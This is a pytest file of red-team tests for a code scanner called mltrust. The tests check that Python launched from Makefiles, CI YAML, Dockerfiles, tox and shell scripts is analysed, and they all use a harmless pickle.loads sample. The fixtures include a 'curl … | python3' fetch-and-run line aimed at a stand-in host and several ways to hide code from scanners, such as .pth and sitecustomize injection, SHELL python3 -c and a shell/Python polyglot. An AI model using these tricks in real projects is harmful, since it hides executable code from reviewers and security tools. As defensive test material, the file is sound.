"""Red team (issue 11): code that runs as Python but that ``mltrust check`` did not recognise
as Python. Files without a shebang or a ``.py`` name that the project runs with Python (from
a Makefile, tox.ini, a noxfile, CI YAML, shell scripts, a Dockerfile, package.json scripts,
pre-commit hooks), inline Python in those places (``python -c``, heredocs, GitHub's
``shell: python``), Python-family suffixes (``.ipy``, ``.pyx``, ``.py3``), and files run by
``runpy``/``exec(open(...).read())``/``SourceFileLoader`` from a constant path. Each attack
test fails without its fix."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mltrust.evidence import CollectContext, _rules, collect_evidence
from mltrust.policy import ControlStatus, evaluate, load_profile

pytest.importorskip("bandit", reason="bandit (the policy extra) is not installed")

UNSAFE = "import pickle\n\n\ndef run(d):\n    return pickle.loads(d)\n\n\nrun(b'')\n"
PICKLE = _rules.CODE_PICKLE_LOAD.id
DYNAMIC = _rules.CODE_EVAL_DYNAMIC.id


def _check(root: Path):  # type: ignore[no-untyped-def]
    bundle = collect_evidence(CollectContext(root))
    verdict = evaluate(bundle.document, load_profile("default"))
    return bundle.document, {r.control.id: r.status for r in verdict.results}


def _write(root: Path, files: dict[str, str]) -> None:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


def _dangerous(doc: dict) -> set[tuple[str, str]]:  # type: ignore[type-arg]
    return {(f["path"], f["rule_id"]) for f in doc["code"]["dangerous"]}


def _lines(doc: dict, path: str, rule: str) -> set[int]:  # type: ignore[type-arg]
    return {
        f["line"] for f in doc["code"]["dangerous"] if (f["path"], f["rule_id"]) == (path, rule)
    }


# -- 1. files run with Python whatever their name ----------------------------------------------
LAUNCHERS = {
    "makefile": {"Makefile": "all: build\n\nbuild:\n\t@$(PYTHON) -u tools/build --fast\n"},
    "makefile-python3": {"GNUmakefile": "x:\n\tcd . && python3 tools/build\n"},
    "tox": {"tox.ini": "[testenv]\ncommands =\n    pip list\n    python tools/build {posargs}\n"},
    "tox-envpython": {"tox.ini": "[testenv]\ncommands = {envpython} tools/build\n"},
    "workflow": {
        ".github/workflows/ci.yml": "on: push\njobs:\n  t:\n    runs-on: x\n    steps:\n"
        "      - run: python3.12 -W ignore tools/build\n"
    },
    "workflow-block": {
        ".github/workflows/ci.yaml": "jobs:\n  t:\n    steps:\n      - run: |\n"
        "          echo start\n          FOO=1 python -B tools/build && echo done\n"
    },
    "gitlab": {
        ".gitlab-ci.yml": "test:\n  script:\n    - pip install .\n    - python tools/build\n"
    },
    "shell-script": {"scripts/run.sh": '#!/bin/sh\nset -e\nexec python3 tools/build "$@"\n'},
    "shell-shebang": {"scripts/run": "#!/usr/bin/env bash\nif true; then python tools/build; fi\n"},
    "dockerfile-exec": {
        "Dockerfile": 'FROM python:3.12\nCOPY . /app\nCMD ["python", "/app/tools/build"]\n'
    },
    "dockerfile-run": {
        "Dockerfile": "FROM python:3.12\nRUN pip install x && \\\n    python tools/build\n"
    },
    "package-json": {"package.json": '{"scripts": {"prepare": "python3 tools/build"}}\n'},
    "pre-commit": {
        ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: b\n    name: b\n"
        "    entry: python tools/build\n    language: system\n"
    },
    "noxfile": {
        "noxfile.py": "import nox\n\n\n@nox.session\ndef build(session):\n"
        '    session.run("python", "tools/build")\n'
    },
    "uv-run-script": {"Makefile": "b:\n\tuv run --script tools/build\n"},
    "poetry-run": {"Makefile": "b:\n\tpoetry run python tools/build\n"},
    "pipenv-run": {"justfile": "b:\n    pipenv run python tools/build\n"},
    "stdin-redirect": {"scripts/go.sh": "python3 - < tools/build\n"},
}


@pytest.mark.parametrize("host", sorted(LAUNCHERS))
def test_attack_file_run_with_python_is_analysed_whatever_its_name(
    tmp_path: Path, host: str
) -> None:
    _write(tmp_path, {**LAUNCHERS[host], "tools/build": UNSAFE})
    doc, controls = _check(tmp_path)
    assert ("tools/build", PICKLE) in _dangerous(doc)
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


def test_attack_file_run_with_python_missing_from_the_tree_fails_closed(tmp_path: Path) -> None:
    _write(tmp_path, {"Makefile": "b:\n\tpython tools/generated\n", "ok.py": "x = 1\n"})
    doc, controls = _check(tmp_path)
    assert "Makefile" in doc["code"]["not_analysed"]
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


def test_attack_file_run_with_python_from_a_variable_fails_closed(tmp_path: Path) -> None:
    _write(tmp_path, {"scripts/go.sh": 'python3 "$SCRIPT"\n', "ok.py": "x = 1\n"})
    doc, controls = _check(tmp_path)
    assert "scripts/go.sh" in doc["code"]["not_analysed"]
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


def test_attack_file_run_with_python_that_is_not_python_fails_closed(tmp_path: Path) -> None:
    _write(tmp_path, {"Makefile": "b:\n\tpython tools/build\n", "tools/build": "cdef int x = (\n"})
    doc, controls = _check(tmp_path)
    assert "tools/build" in doc["code"]["not_analysed"]
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


@pytest.mark.parametrize(
    "files",
    [
        {"Makefile": "test:\n\tpython -m pytest -q\n\tpython --version\n\techo python is fun\n"},
        {
            ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n"
            "      - uses: actions/setup-python@v5\n        with:\n"
            "          python-version: '3.12'\n"
            "      - run: python -m pip install -e .\n"
        },
        {
            ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n"
            "    language: python\n    entry: ruff\n"
        },
        {"tox.ini": "[testenv]\ncommands = python -c 'import sys; print(sys.version)'\n"},
    ],
)
def test_ordinary_python_invocations_are_not_findings(
    tmp_path: Path, files: dict[str, str]
) -> None:
    _write(tmp_path, {**files, "ok.py": "x = 1\n"})
    doc, controls = _check(tmp_path)
    assert doc["code"]["not_analysed"] == []
    assert controls["no-dangerous-code"] is ControlStatus.PASS


# -- 2. inline Python --------------------------------------------------------------------------
INLINE = {
    "makefile-c": (
        "Makefile",
        "b:\n\tpython -c 'import pickle; pickle.loads(open(\"m\").read())'\n",
        2,
    ),
    "workflow-c": (
        ".github/workflows/ci.yml",
        'jobs:\n  t:\n    steps:\n      - run: >-\n          python3 -c "import pickle;\n'
        "          pickle.loads(b'')\"\n",
        5,
    ),
    "shell-heredoc": (
        "scripts/go.sh",
        "#!/bin/bash\necho hi\npython3 - <<'EOF'\nimport pickle\npickle.loads(b'')\nEOF\n",
        5,
    ),
    "workflow-heredoc": (
        ".github/workflows/ci.yml",
        "jobs:\n  t:\n    steps:\n      - run: |\n          python <<PY\n"
        "          import pickle\n          pickle.loads(b'')\n          PY\n",
        7,
    ),
    "workflow-shell-python": (
        ".github/workflows/ci.yml",
        "jobs:\n  t:\n    steps:\n      - shell: python\n        run: |\n"
        "          import pickle\n          pickle.loads(b'')\n",
        7,
    ),
    "dockerfile-heredoc": (
        "Dockerfile",
        "FROM python:3.12\nRUN python3 <<EOF\nimport pickle\npickle.loads(b'')\nEOF\n",
        4,
    ),
    "tox-c": (
        "tox.ini",
        "[testenv]\ncommands =\n    python -c \"import pickle; pickle.loads(b'')\"\n",
        3,
    ),
}


@pytest.mark.parametrize("case", sorted(INLINE))
def test_attack_inline_python_is_analysed_at_its_host_line(tmp_path: Path, case: str) -> None:
    host, text, line = INLINE[case]
    _write(tmp_path, {host: text})
    doc, controls = _check(tmp_path)
    assert line in _lines(doc, host, PICKLE)
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


@pytest.mark.parametrize(
    "files",
    [
        {"scripts/go.sh": "python3 - <<EOF\nimport $MOD\nEOF\n"},
        {"Makefile": 'b:\n\tpython -c "import $(MOD)"\n'},
        {"scripts/go.sh": "curl -s https://x.example/i | python3\n"},
    ],
)
def test_attack_inline_python_that_cannot_be_extracted_fails_closed(
    tmp_path: Path, files: dict[str, str]
) -> None:
    _write(tmp_path, files)
    doc, controls = _check(tmp_path)
    assert set(files) <= set(doc["code"]["not_analysed"])
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


# -- 3. Python-family suffixes -----------------------------------------------------------------
@pytest.mark.parametrize("name", ["tool.ipy", "tool.py3", "tool.pyx", "tool.pxi", "tool.pxd"])
def test_attack_python_family_suffix_is_analysed(tmp_path: Path, name: str) -> None:
    _write(tmp_path, {name: "%time x = 1\n" + UNSAFE if name.endswith(".ipy") else UNSAFE})
    doc, _ = _check(tmp_path)
    assert (name, PICKLE) in _dangerous(doc)


def test_attack_cython_source_that_does_not_parse_fails_closed(tmp_path: Path) -> None:
    _write(tmp_path, {"fast.pyx": "cdef int f(int x):\n    return x\n"})
    doc, controls = _check(tmp_path)
    assert "fast.pyx" in doc["code"]["not_analysed"]
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


def test_type_stubs_are_not_analysed_as_code(tmp_path: Path) -> None:
    _write(tmp_path, {"m.pyi": "def f(x: int) -> int: ...\n", "m.py": "x = 1\n"})
    doc, controls = _check(tmp_path)
    assert doc["code"]["python_files"] == 1
    assert controls["no-dangerous-code"] is ControlStatus.PASS


# -- 4. files run by Python code from a constant path ------------------------------------------
RUN_FILE = {
    "runpy-run-path": 'import runpy\nrunpy.run_path("payload.txt")\n',
    "runpy-run-path-kw": 'from runpy import run_path\nrun_path(path_name="payload.txt")\n',
    "runpy-run-path-folder": 'import runpy\nrunpy.run_path("../app/")\n',
    "exec-open-read": 'exec(open("payload.txt").read())\n',
    "exec-path-read-text": 'from pathlib import Path\nexec(Path("payload.txt").read_text())\n',
    "compile-open-read": 'code = compile(open("payload.txt").read(), "p", "exec")\n',
    "source-file-loader": 'import importlib.machinery as m\nm.SourceFileLoader("p", "payload.txt")',
    "spec-from-file-location": (
        'import importlib.util\nimportlib.util.spec_from_file_location("p", "payload.txt")\n'
    ),
}


@pytest.mark.parametrize("case", sorted(RUN_FILE))
def test_attack_file_run_from_a_constant_path_is_analysed(tmp_path: Path, case: str) -> None:
    payload = "app/__main__.py" if case.endswith("folder") else "app/payload.txt"
    _write(tmp_path, {"app/main.py": RUN_FILE[case], payload: UNSAFE})
    doc, controls = _check(tmp_path)
    assert (payload, PICKLE) in _dangerous(doc)
    assert ("app/main.py", DYNAMIC) not in _dangerous(doc)  # the file it runs was analysed
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


@pytest.mark.parametrize(
    "source",
    [
        'import runpy\nrunpy.run_path("/opt/elsewhere/payload")\n',
        'import runpy\nrunpy.run_path("missing.txt")\n',
    ],
)
def test_attack_file_run_from_a_path_not_in_the_tree_is_flagged(
    tmp_path: Path, source: str
) -> None:
    _write(tmp_path, {"main.py": source})
    doc, controls = _check(tmp_path)
    assert ("main.py", DYNAMIC) in _dangerous(doc)
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


def test_prose_in_a_launcher_is_not_a_command(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            "action.yml": "inputs:\n  python-version:\n    description: Python used to run it.\n"
            "    default: '3.11'\nruns:\n  using: composite\n  steps:\n"
            "    - name: python setup to do\n      run: echo ok\n",
            "ok.py": "x = 1\n",
        },
    )
    doc, controls = _check(tmp_path)
    assert doc["code"]["not_analysed"] == []
    assert controls["no-dangerous-code"] is ControlStatus.PASS


@pytest.mark.parametrize(
    "files",
    [
        # make runs each recipe line in its own shell: a quote left open does not swallow the
        # next line, and without .ONESHELL a heredoc's "body" lines are commands
        {"Makefile": "b:\n\t-echo it's\n\tpython tools/build\n\t-echo that's\n"},
        {"Makefile": "b:\n\tcat <<EOF\n\tpython tools/build\n\tEOF\n"},
        {"Dockerfile": "FROM x\nRUN echo it's || true\nRUN python tools/build\nRUN echo 'x\n"},
        {"tox.ini": "[testenv]\ncommands =\n    - echo it's\n    python tools/build\n    echo '\n"},
    ],
)
def test_attack_line_by_line_launcher_is_not_read_as_one_script(
    tmp_path: Path, files: dict[str, str]
) -> None:
    _write(tmp_path, {**files, "tools/build": UNSAFE})
    doc, controls = _check(tmp_path)
    assert ("tools/build", PICKLE) in _dangerous(doc)
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


def test_attack_yaml_alias_bomb_in_a_launcher_is_read_once() -> None:
    import time

    from mltrust.evidence._launchers import launches

    rows = "".join(
        f"{c}: &{c} [{', '.join([f'*{p}'] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi")
    )
    start = time.perf_counter()
    launches("yaml", "a: &a [python x, python x, python x]\n" + rows)
    assert time.perf_counter() - start < 5


_ATOMS = ["python", "python3 ", " -c ", "'", '"', "\\\n", "\n", "<<EOF", "EOF", "$x", "|", ";"]
_ATOMS += ["-m", "x.y", "tools/a", "RUN ", "CMD [", "]", "{", ": ", "- ", "\t", "uv run ", "`"]


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from(_ATOMS), max_size=40),
    st.sampled_from(["shell", "make", "yaml", "dockerfile", "ini", "json", "python", "lines"]),
)
def test_any_launcher_text_is_read_without_error(atoms: list[str], kind: str) -> None:
    from mltrust.evidence._launchers import launches

    for launch in launches(kind, "".join(atoms)):  # type: ignore[arg-type]
        assert launch.kind in ("file", "module", "code", "unknown")


def test_attack_workflow_runs_a_script_under_the_workspace_variable(tmp_path: Path) -> None:
    _write(
        tmp_path,
        {
            ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n"
            "      - run: python ${{ github.workspace }}/tools/build\n"
            "      - run: python3 $GITHUB_WORKSPACE/tools/build\n",
            "tools/build": UNSAFE,
        },
    )
    doc, _ = _check(tmp_path)
    assert ("tools/build", PICKLE) in _dangerous(doc)
    assert doc["code"]["not_analysed"] == []


def test_shell_polyglot_running_itself_is_analysed_as_python(tmp_path: Path) -> None:
    _write(tmp_path, {"tools/run": "#!/bin/sh\n''''exec python3 \"$0\" \"$@\" #'''\n" + UNSAFE})
    doc, _ = _check(tmp_path)
    assert ("tools/run", PICKLE) in _dangerous(doc)
    assert doc["code"]["not_analysed"] == []


# -- 5. Dockerfile and CI YAML positions that run Python (red team check3 05, 06) -----------
PICK = "import pickle; pickle.loads(b'')"
HOSTED = {
    # SHELL ["python3", "-c"]: later shell-form RUN/CMD/ENTRYPOINT text is the -c code
    "dockerfile-shell-python": (
        "Dockerfile",
        f'FROM python:3.12\nSHELL ["python3", "-c"]\nRUN echo hi\nRUN {PICK}\n',
        4,
    ),
    "dockerfile-shell-python-cmd": (
        "Dockerfile",
        f'FROM python:3.12\nSHELL ["/usr/bin/env", "python3", "-c"]\nCMD {PICK}\n',
        3,
    ),
    "dockerfile-shell-python-healthcheck": (
        "Dockerfile",
        f'FROM python:3.12\nSHELL ["python3", "-c"]\nHEALTHCHECK --interval=5s CMD {PICK}\n',
        3,
    ),
    # Docker ignores an empty line inside a continued instruction
    "dockerfile-blank-in-continuation": (
        "Dockerfile",
        f'FROM python:3.12\nRUN echo start \\\n\n   \n && python3 -c "{PICK}"\n',
        2,
    ),
    # a .pth file's import lines run at every interpreter start-up
    "dockerfile-copy-heredoc-pth": (
        "Dockerfile",
        "FROM python:3.12\nCOPY <<PTH /usr/local/lib/python3.12/site-packages/zz.pth\n"
        f"/opt/x\n{PICK}\nPTH\nRUN python3 -c 'print(1)'\n",
        4,
    ),
    "dockerfile-copy-heredoc-sitecustomize": (
        "Dockerfile",
        "FROM python:3.12\nCOPY <<'EOF' /usr/local/lib/python3.12/sitecustomize.py\n"
        "import pickle\npickle.loads(b'')\nEOF\n",
        4,
    ),
    "dockerfile-add-heredoc-py-into-folder": (
        "Dockerfile",
        "FROM python:3.12\nADD --chmod=755 <<a.txt <<tool.py /app/\nhello\na.txt\n"
        "import pickle\npickle.loads(b'')\ntool.py\nRUN python /app/tool.py\n",
        6,
    ),
    # GitHub defaults.run.shell at workflow and at job level
    "workflow-defaults-shell-python": (
        ".github/workflows/ci.yml",
        "on: push\ndefaults:\n  run:\n    shell: python\njobs:\n  t:\n    runs-on: x\n"
        "    steps:\n      - run: |\n          import pickle\n          pickle.loads(b'')\n",
        11,
    ),
    "workflow-job-defaults-shell-python": (
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  t:\n    runs-on: x\n    defaults:\n      run:\n"
        "        shell: python3 -u {0}\n    steps:\n      - run: |\n"
        "          import pickle\n          pickle.loads(b'')\n",
        11,
    ),
    "workflow-shell-python-template": (
        ".github/workflows/ci.yml",
        "jobs:\n  t:\n    steps:\n      - shell: 'python {0}'\n        run: |\n"
        "          import pickle\n          pickle.loads(b'')\n",
        7,
    ),
    # a shell computed by the run may be Python: the text is read as Python too
    "workflow-shell-from-an-expression": (
        ".github/workflows/ci.yml",
        "jobs:\n  t:\n    steps:\n      - shell: ${{ matrix.shell }}\n        run: |\n"
        "          import pickle\n          pickle.loads(b'')\n",
        7,
    ),
    # Azure Pipelines' PythonScript task runs its inline script with Python
    "azure-python-script-task": (
        "azure-pipelines.yml",
        "steps:\n- task: PythonScript@0\n  inputs:\n    scriptSource: inline\n"
        "    script: |\n      import pickle\n      pickle.loads(b'')\n",
        7,
    ),
    # a job whose id is a "prose" key is a job
    "workflow-job-named-name": (
        ".github/workflows/ci.yml",
        f'on: push\njobs:\n  name:\n    runs-on: x\n    steps:\n      - run: python3 -c "{PICK}"\n',
        6,
    ),
    "gitlab-job-named-description": (
        ".gitlab-ci.yml",
        f'description:\n  script:\n    - python3 -c "{PICK}"\n',
        3,
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTED))
def test_attack_python_run_by_a_dockerfile_or_ci_position_is_analysed(
    tmp_path: Path, case: str
) -> None:
    host, text, line = HOSTED[case]
    _write(tmp_path, {host: text})
    doc, controls = _check(tmp_path)
    assert line in _lines(doc, host, PICKLE)
    assert controls["no-dangerous-code"] is ControlStatus.FAIL


@pytest.mark.parametrize(
    "files",
    [
        {"Dockerfile": 'FROM python:3.12\nSHELL ["bash", "-eo", "pipefail", "-c"]\nRUN echo ok\n'},
        # a later stage starts from another image: its RUN is sh again
        {
            "Dockerfile": 'FROM python:3.12 AS a\nSHELL ["python3", "-c"]\nRUN print(1)\n'
            "FROM python:3.12\nRUN echo ok && python3 -c 'print(1)'\n"
        },
        {"Dockerfile": "FROM x\nCOPY <<EOF /etc/motd\nimport os; os.system('x')\nEOF\n"},
        {
            ".github/workflows/ci.yml": "defaults:\n  run:\n    shell: bash -eo pipefail {0}\n"
            "jobs:\n  t:\n    steps:\n      - name: python -c 'import os'\n        run: echo ok\n"
        },
    ],
)
def test_non_python_dockerfile_and_ci_text_is_not_a_finding(
    tmp_path: Path, files: dict[str, str]
) -> None:
    _write(tmp_path, {**files, "ok.py": "x = 1\n"})
    doc, controls = _check(tmp_path)
    assert doc["code"]["not_analysed"] == []
    assert controls["no-dangerous-code"] is ControlStatus.PASS
